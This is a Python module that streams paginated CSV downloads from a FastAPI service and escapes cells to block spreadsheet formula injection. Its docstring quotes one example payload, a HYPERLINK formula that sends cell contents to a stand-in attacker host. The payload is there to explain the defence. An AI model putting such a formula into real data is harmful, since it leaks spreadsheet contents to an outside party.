"""CSV exports (issue 14): streamed page by page, so memory stays the same whatever the size,
and safe to open in a spreadsheet.

Formula injection: a text cell starting with = + - @ (or a tab or carriage return, which some
spreadsheets skip before reading a formula) is read as a formula by Excel, LibreOffice and
Google Sheets, e.g. a prospect named `=HYPERLINK("https://evil.example/?"&A1)`. Such a cell is
written with a leading apostrophe (OWASP's advice): shown as text, the apostrophe hidden.
Numbers are written as they are (a negative amount stays a number).

A page is read in a session of its own, after the response started: the request's session is
committed and closed by then (shared.db), and no transaction stays open for the whole download.
"""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator, Awaitable, Callable, Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal
from enum import Enum
from typing import Any

from fastapi.responses import StreamingResponse
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
MEDIA_TYPE = "text/csv; charset=utf-8"


def safe_cell(value: Any) -> Any:
    """What the CSV writer gets for one cell."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float | Decimal):
        return value
    if isinstance(value, Enum):
        value = value.value
    if isinstance(value, datetime | date):
        return value.isoformat()
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def _lines(rows: Iterable[Sequence[Any]]) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    for row in rows:
        writer.writerow([safe_cell(v) for v in row])
    return buffer.getvalue()


# one page: given a session and the previous page's state (None at first), the rows and the
# next state (None: that was the last page)
Page = Callable[[AsyncSession, Any], Awaitable[tuple[Sequence[Sequence[Any]], Any]]]


async def paged_rows(
    sessions: async_sessionmaker[AsyncSession], page: Page
) -> AsyncIterator[Sequence[Sequence[Any]]]:
    state: Any = None
    while True:
        async with sessions() as session:
            rows, state = await page(session, state)
        if rows:
            yield rows
        if state is None:
            return


async def _body(
    header: Sequence[str], pages: AsyncIterator[Sequence[Sequence[Any]]]
) -> AsyncIterator[str]:
    yield _lines([header])
    async for rows in pages:
        yield _lines(rows)


def csv_response(
    filename: str, header: Sequence[str], pages: AsyncIterator[Sequence[Sequence[Any]]]
) -> StreamingResponse:
    """A download of `header` and then every page's rows, written as they are read."""
    return StreamingResponse(
        _body(header, pages),
        media_type=MEDIA_TYPE,
        headers={"Content-Disposition": f'attachment; filename="{filename}"'},
    )


async def one_page(rows: Sequence[Sequence[Any]]) -> AsyncIterator[Sequence[Sequence[Any]]]:
    """For small exports computed at once (aggregates)."""
    yield rows
